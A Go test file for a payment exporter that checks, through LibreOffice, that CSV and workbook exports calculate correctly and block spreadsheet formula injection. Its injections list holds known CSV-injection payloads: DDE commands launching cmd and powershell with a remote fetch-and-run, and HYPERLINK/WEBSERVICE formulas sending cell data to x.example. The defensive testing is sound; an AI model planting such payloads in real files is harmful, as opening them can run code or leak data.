package exporter

import (
	"archive/zip"
	"bytes"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/payrec/payrec/record"
)

// office has LibreOffice open files and save them as workbooks, which also
// calculates every formula. filter says how CSV is read. The folder profile is
// LibreOffice's own: filling a new one takes longer than the rest.
func office(t *testing.T, profile, filter string, files map[string][]byte) map[string]*excelize.File {
	t.Helper()
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("LibreOffice is not installed: soffice is not on the path")
	}
	if testing.Short() {
		t.Skip("LibreOffice takes too long for -short")
	}
	dir := t.TempDir()
	args := []string{"-env:UserInstallation=file://" + profile, "--headless", "--convert-to", "xlsx", "--outdir", filepath.Join(dir, "out")}
	if filter != "" {
		args = append(args, "--infilter="+filter)
	}
	for name, content := range files {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, content, 0o600); err != nil {
			t.Fatal(err)
		}
		args = append(args, path)
	}
	if out, err := exec.CommandContext(t.Context(), soffice, args...).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	opened := map[string]*excelize.File{}
	for name := range files {
		f, err := excelize.OpenFile(filepath.Join(dir, "out", strings.TrimSuffix(name, filepath.Ext(name))+".xlsx"))
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { f.Close() })
		opened[name] = f
	}
	return opened
}

// edited is a workbook with each of its sheets' XML changed.
func edited(t *testing.T, book []byte, change func(part, xml string) string) []byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for _, part := range z.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		r.Close()
		if strings.HasPrefix(part.Name, "xl/worksheets/sheet") {
			content = []byte(change(part.Name, string(content)))
		}
		to, err := w.Create(part.Name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := to.Write(content); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

var cachedValue = regexp.MustCompile(`</f><v[^>]*>[^<]*</v>`)

// uncalculated takes what the formulas come to out of a workbook, so that
// whoever opens it must calculate.
func uncalculated(t *testing.T, book []byte) []byte {
	return edited(t, book, func(_, xml string) string { return cachedValue.ReplaceAllString(xml, "</f>") })
}

func workbookOf(t *testing.T, d *Dataset, rows int) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := d.writeWorkbook(&b, rows); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// inEuro is a history of payments in euro only.
func inEuro(src *fake) *fake {
	var records []*record.PaymentRecord
	for _, r := range src.records {
		if r.AmountRequested.Currency == "eur" {
			records = append(records, r)
		}
	}
	return &fake{records: records, attempts: src.attempts}
}

// TestOfficeCalculatesTheSame: LibreOffice, which is given the formulas without
// what they come to, comes to what we wrote; no cell is an error, and no cell is
// a formula that was none here.
func TestOfficeCalculatesTheSame(t *testing.T) {
	t.Parallel() // LibreOffice mostly waits
	all := generate(400, 41)
	for i, r := range all.records {
		if i%3 > 0 {
			r.Metadata[record.StampOp] = "op" + strconv.Itoa(i)
		}
	}
	books := map[string][]byte{
		"several.xlsx": workbookOf(t, collectAll(t, all, Options{Attempts: AllAttempts, Period: Period{Zone: berlin(t)}}), 1000),
		"parts.xlsx":   workbookOf(t, collectAll(t, all, Options{Attempts: LatestAttempts}), 150),
		"euro.xlsx":    workbookOf(t, collectAll(t, inEuro(all), Options{Journal: told{imports: readRuns(t, 2), totals: []record.Tally{{Call: record.ReportPayment, Currency: "eur", State: record.Confirmed, N: 9, Value: 900}}}}), 40),
		"empty.xlsx":   workbookOf(t, collectAll(t, &fake{}, Options{}), 100),
	}
	bare := map[string][]byte{}
	for name, book := range books {
		bare[name] = uncalculated(t, book)
	}
	for name, theirs := range office(t, t.TempDir(), "", bare) {
		ours, err := excelize.OpenReader(bytes.NewReader(books[name]))
		if err != nil {
			t.Fatal(err)
		}
		formulas := 0
		for _, sheet := range ours.GetSheetList() {
			got := rawRows(t, theirs, sheet)
			for y, row := range rawRows(t, ours, sheet) {
				for x, want := range row {
					at := ref(x, y+1)
					formula, err := ours.GetCellFormula(sheet, at)
					if err != nil {
						t.Fatal(err)
					}
					has, err := theirs.GetCellFormula(sheet, at)
					if err != nil || (formula == "") != (has == "") {
						t.Errorf("%s %s!%s: formula %q became %q, %v", name, sheet, at, formula, has, err)
					}
					value := ""
					if y < len(got) {
						value = cellAt(got[y], x)
					}
					if formula != "" {
						formulas++
					}
					if !sameCell(want, value) {
						t.Errorf("%s %s!%s: %q is %q there (%s)", name, sheet, at, want, value, formula)
					}
				}
			}
		}
		if formulas == 0 {
			t.Errorf("%s: no formulas", name)
		}
		ours.Close()
	}
}

// sameCell compares raw cells: as texts, or as numbers within the last decimal
// that a currency has.
func sameCell(a, b string) bool {
	if a == b {
		return true
	}
	x, errA := strconv.ParseFloat(a, 64)
	y, errB := strconv.ParseFloat(b, 64)
	return errA == nil && errB == nil && x-y < 0.0005 && y-x < 0.0005
}

// TestOfficeFilters: the totals follow the filter as long as what it shows is
// of one currency.
func TestOfficeFilters(t *testing.T) {
	t.Parallel() // LibreOffice mostly waits
	src := generate(300, 43)
	row := regexp.MustCompile(`<row r="\d+"`)
	book := edited(t, workbookOf(t, collectAll(t, src, Options{}), 1000), func(part, xml string) string {
		if part != "xl/worksheets/sheet2.xml" { // Payments
			return xml
		}
		rows := strings.SplitAfter(xml, "</row>")
		for i, r := range rows[1:] {
			if strings.Contains(r, ">pr_") && !strings.Contains(r, "<t>KWD</t>") {
				rows[i+1] = row.ReplaceAllString(r, `$0 hidden="1"`)
			}
		}
		return strings.Join(rows, "")
	})
	f := office(t, t.TempDir(), "", map[string][]byte{"filtered.xlsx": uncalculated(t, book)})["filtered.xlsx"]
	rows := rawRows(t, f, "Payments")
	at := header(rows)
	var shown, total []string
	for _, row := range rows {
		switch cellAt(row, 0) {
		case "Shown, if of one currency":
			shown = row
		case "Total KWD":
			total = row
		}
	}
	for _, title := range titles {
		if got, want := cellAt(shown, at[title]), cellAt(total, at[title]); want == "" || !sameCell(got, want) {
			t.Errorf("%s: %q is shown, and the total in KWD is %q", title, got, want)
		}
	}
}

// injections are what text may hold that a spreadsheet would run. Sources:
// OWASP, CSV Injection; PayloadsAllTheThings, CSV Injection; and the full-width
// forms and separators that both warn of.
var injections = []string{
	"=1+1", "+1+1", "-2+3", "@SUM(1,1)", "=2+5+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
	`DDE ("cmd";"/C calc";"!A0")A0`, `=DDE("cmd","/C calc","x")`, "=10+20+cmd|' /C calc'!A0", "=cmd|' /C notepad'!'A1'",
	`=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0`, `=rundll32|'URL.dll,OpenURL calc.exe'!A`, "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
	`=HYPERLINK("http://x.example?leak="&A1&A2,"click")`, `=IMPORTXML(CONCAT("http://x.example?v=",CONCATENATE(A2:E2)),"//a/a10")`, `=WEBSERVICE("http://x.example/"&A1)`,
	`=IMPORTFEED("http://x.example")`, `=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A`, "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A", "= C    m D |  '/ c       c  al  c  .  e                     x       e  '   ! A",
	"＝1+1", "＋1+1", "－2+3", "＠SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\u00a0=1+1", "\x00=1+1", "\ufeff=1+1", "'=1+1", "''=1+1",
	";=1+1", "x;=1+1", "x\t=1+1", "x,=1+1", `x";=1+1`, `";=1+1;"`, `x;"=1+1"`, "x\n=1+1", "x\r=1+1", "x\r\n;=1+1", `","=1+1`, `=1+1;=1+1`, "x; =1+1", "%0A-3+3+cmd|' /C calc'!D2", "x;-2+3", "x;@SUM(1,1)", "x;\t=1+1", "x;'=1+1",
	"{=1+1}", "|=1+1", "x|=1+1",
}

// harmless texts must stay as they are.
var harmless = []string{"-12.50", "+5", "-1,533.50", "-", "--", "a=b", "a+b", "x;y", "a, b; c", "2026-06-01", "1e5", "0012", "Müller & Söhne; Köln", "50 %"}

func injected() *fake {
	src := &fake{}
	for i, text := range append(injections[:len(injections):len(injections)], harmless...) {
		r := simple("pr_"+strconv.Itoa(1000+i), int64(i), record.StampFee, "10.55", record.StampNet, "-0.55", record.StampNetCurrency, "eur")
		r.Description, r.Metadata["note"] = &text, text
		r.CustomerDetails = &record.CustomerDetails{Name: &text, Email: &text}
		r.PaymentMethodDetails = &record.MethodDetails{Custom: &record.CustomMethod{DisplayName: text}}
		src.records = append(src.records, r)
	}
	return src
}

// csvFilter has LibreOffice read UTF-8 with these separators, take no column as
// text, and evaluate formulas: as dangerous as it gets. Source: LibreOffice help,
// CSV filter parameters.
func csvFilter(separators string) string {
	return "CSV:" + separators + ",34,76,1,,0,false,true,false,false,false,0,true"
}

// TestInjection: nothing that a payer typed becomes a formula, in a workbook nor
// in CSV, also where a spreadsheet splits lines at other separators than ours;
// negative amounts stay numbers.
func TestInjection(t *testing.T) {
	t.Parallel()
	profile := t.TempDir()
	d := collectAll(t, injected(), Options{})
	raw := collectAll(t, injected(), Options{Raw: true})
	text := func(d *Dataset) []byte {
		var b bytes.Buffer
		if err := d.WriteCSV(&b); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	for _, separators := range []string{"44", "59", "44/59/9"} {
		files := office(t, profile, csvFilter(separators), map[string][]byte{"guarded.csv": text(d), "raw.csv": text(raw)})
		if n := formulasIn(t, files["raw.csv"], nil); n == 0 {
			t.Errorf("separators %s: nothing is run without a guard: this proves nothing", separators)
		}
		if n := formulasIn(t, files["guarded.csv"], t.Errorf); n > 0 {
			t.Errorf("separators %s: %d formulas", separators, n)
		}
		if separators == "44" {
			net := 0
			rows := rawRows(t, files["guarded.csv"], files["guarded.csv"].GetSheetName(0))
			for i := range rows[1:] {
				if kind, err := files["guarded.csv"].GetCellType(files["guarded.csv"].GetSheetName(0), ref(header(rows)["net"], i+2)); err == nil && kind != excelize.CellTypeSharedString && cellAt(rows[i+1], header(rows)["net"]) == "-0.55" {
					net++
				}
			}
			if net != len(injections)+len(harmless) {
				t.Errorf("%d negative amounts are numbers", net)
			}
		}
	}
	book := workbookOf(t, d, 1000)
	ours, err := excelize.OpenReader(bytes.NewReader(book))
	if err != nil {
		t.Fatal(err)
	}
	defer ours.Close()
	theirs := office(t, profile, "", map[string][]byte{"book.xlsx": uncalculated(t, book)})["book.xlsx"]
	for y, row := range rawRows(t, theirs, "Payments") {
		for x := range row {
			a, _ := ours.GetCellFormula("Payments", ref(x, y+1))
			if b, _ := theirs.GetCellFormula("Payments", ref(x, y+1)); (a == "") != (b == "") {
				t.Errorf("Payments!%s is run: %s", ref(x, y+1), b)
			}
		}
	}
}

// formulasIn counts the formulas of a workbook's first sheet and says which.
func formulasIn(t *testing.T, f *excelize.File, say func(string, ...any)) (n int) {
	t.Helper()
	sheet := f.GetSheetName(0)
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	for y := range rows {
		for x := range 60 {
			formula, err := f.GetCellFormula(sheet, ref(x, y+1))
			if err != nil {
				t.Fatal(err)
			}
			if formula != "" {
				if n++; say != nil {
					say("%s is run: %s", ref(x, y+1), formula)
				}
			}
		}
	}
	return n
}
